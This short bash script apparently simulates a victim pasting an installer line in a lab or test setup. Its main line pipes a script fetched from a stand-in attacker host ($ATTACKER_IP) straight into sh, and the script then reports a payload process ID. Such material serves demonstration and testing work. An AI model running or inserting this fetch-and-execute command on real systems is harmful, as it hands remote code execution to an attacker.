#!/usr/bin/env bash
# The victim pastes the classic installer line.
set -u
curl -fsS "http://$ATTACKER_IP:8000/x.sh" | sh
echo "payload pid $(cat "$STATE/payload.pid" 2>/dev/null)"
